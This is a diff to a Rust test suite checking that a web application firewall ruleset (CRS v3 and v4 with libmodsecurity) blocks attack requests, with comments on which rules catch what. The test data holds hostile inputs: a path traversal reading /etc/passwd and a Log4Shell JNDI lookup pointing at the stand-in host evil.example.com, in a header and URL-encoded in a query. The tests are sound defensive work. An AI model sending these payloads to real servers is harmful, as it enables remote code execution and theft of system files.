@@ -80,8 +80,8 @@ fn attacks(rs: &Arc<Ruleset>) {
     blocked(rs, "/download?file=../../../../etc/passwd", vec![]);
     blocked(
         rs,
-        "/",
-        vec![("X-Api-Version", "${jndi:ldap://evil.example.com/a}")],
+        "/lookup?user=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example.com%2Fa%7D",
+        vec![],
     );
 }
 
@@ -91,6 +91,12 @@ fn crs_v4_benign_and_attacks() {
     benign_get(&rs);
     benign_post(&rs);
     attacks(&rs);
+    // CRS v4 also looks for Log4Shell in every header (944150); CRS 3.3.4 has no such rule.
+    blocked(
+        &rs,
+        "/",
+        vec![("X-Api-Version", "${jndi:ldap://evil.example.com/a}")],
+    );
 }
 
 #[test]
@@ -99,4 +105,9 @@ fn crs_v3_benign_and_attacks() {
     benign_get(&rs);
     benign_post(&rs);
     attacks(&rs);
+    // Debian's CRS 3.3.4 has no Log4Shell rule: libmodsecurity 3.0.9 with it lets
+    // a `${jndi:...}` header through as well. Instead, an Accept header with an
+    // empty parameter name: only PCRE's possessive `;\s*+` in 920600 rejects it
+    // (libmodsecurity blocks it with 920600 and 949110).
+    blocked(&rs, "/", vec![("Accept", "text/html; =x")]);
 }
